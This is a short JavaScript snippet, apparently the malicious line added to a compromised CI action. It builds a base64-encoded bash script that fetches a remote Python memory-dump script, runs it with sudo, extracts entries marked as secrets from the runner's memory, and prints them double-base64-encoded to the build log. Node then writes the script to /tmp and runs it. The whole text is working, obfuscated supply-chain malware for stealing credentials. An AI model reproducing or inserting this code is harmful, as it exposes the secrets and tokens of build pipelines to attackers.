// The line that was added to the action: a shell whose script is in base64.
const script = Buffer.from(`
if [[ "$OSTYPE" == "linux-gnu" ]]; then
  B64_BLOB=$(curl -sSf https://gist.githubusercontent.com/example/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0)
  echo $B64_BLOB
else
  exit 0
fi
`).toString('base64');
require('child_process').execFileSync('bash', ['-c', `echo ${script} | base64 -d > /tmp/run.sh && bash /tmp/run.sh`], {stdio: 'inherit'});
